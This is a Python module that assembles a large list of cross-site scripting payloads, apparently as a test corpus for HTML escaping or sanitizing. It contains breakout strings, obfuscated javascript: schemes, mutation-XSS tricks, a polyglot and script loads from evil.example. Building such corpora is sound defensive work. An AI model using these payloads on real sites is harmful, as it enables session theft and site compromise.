"""Strings that would run a script where a program writes them without escaping: what browsers read, combined."""

from __future__ import annotations

from itertools import product

RUN = "ran(1)"
_ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<script\n>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    "<IMG SRC=x ONERROR=&#114;an(1)>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:,{RUN}'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>a</text></a></svg>",
    f"<svg><set attributeName=href to='javascript:{RUN}'></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math href='javascript:{RUN}'>a</math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<details open ontoggle={RUN}>a",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>a</marquee>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    "<base href='//evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css'</style>",
    f"<div style='background:url(javascript:{RUN})'>a</div>",
    "<div style='background:url(//evil.example/x.png)'>a</div>",
    f"<form action='javascript:{RUN}'><button>a</button></form>",
    f"<x contenteditable onblur={RUN}>a</x>",
    f"<a href=x onmouseover={RUN}>a</a>",
    f"<xss onanimationstart={RUN} style='animation-name:x'>",
]
_OUT_OF = [
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "<!--",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</p>",
    "*/",
    "\\",
    "`",
    "{{",
    "%}",
]
_THEN = [
    *(f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>"),
    f" onmouseover={RUN} autofocus onfocus={RUN} x=",
]
_SCHEMES = [
    "javascript:ran(1)",
    "JaVaScRiPt:ran(1)",
    " javascript:ran(1)",
    "java&Tab;script:ran(1)",
    "java&NewLine;script:ran(1)",
    "java%0Ascript:ran(1)",
    "&#106;avascript:ran(1)",
    "&#x6A;&#x61;vascript:ran(1)",
    "&#0000106avascript:ran(1)",
    "javascript&colon;ran(1)",
    "&#1;javascript:ran(1)",
    "javascript://%0aran(1)",
    "vbscript:ran(1)",
    "data:text/html,<script>ran(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "//evil.example/",
    "/\\evil.example/",
    "site:///evil.example/",
    "view-source:javascript:ran(1)",
    "blob:javascript:ran(1)",
]
_LINKS = [
    "{}",
    "[a]({})",
    "[a](<{}>)",
    "<{}>",
    '<a href="{}">a</a>',
    "<a href={}>a</a>",
    "![a]({})",
    '<img src="{}">',
    "[a]\\n\\n[a]: {}",
]
_OTHERS = [
    "{{ 7 * 7 }}{% raw %}{{ ''.__class__ }}",
    "${ran(1)}`${ran(1)}`",
    '"}]}</script><script>ran(1)</script>',
    '{"@context": "</script><script>ran(1)</script>"}',
    "\\u003cscript\\u003eran(1)\\u003c/script\\u003e",
    "&lt;script&gt;ran(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;ran(1)",
    "%3Cscript%3Eran(1)%3C/script%3E",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>ran(1)</script><![CDATA[",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran(1)</x:script>",
    "+ADw-script+AD4-ran(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1eran(1)\uff1c/script\uff1e",
    "[[ada|<img src=x onerror=ran(1)>]]",
    '[[ada|" onmouseover=ran(1) x="]]',
    "`<script>ran(1)</script>`",
    "**<script>ran(1)</script>**",
    "[^1] <script>ran(1)</script>",
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=ran(1) )//</stYle/"
        "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=ran(1)//>"
    ),
    "\"'--></noscript></title></style></textarea></script><img src=x onerror=ran(1)>{{7*7}}",
]


def attacks() -> list[str]:
    """All of them, each once."""
    out = [f"{before}{then}" for before, then in product(_OUT_OF, _THEN)]
    links = [link.replace("{}", scheme) for link, scheme in product(_LINKS, _SCHEMES)]
    return list(dict.fromkeys([*_ELEMENTS, *out, *links, *_OTHERS]))
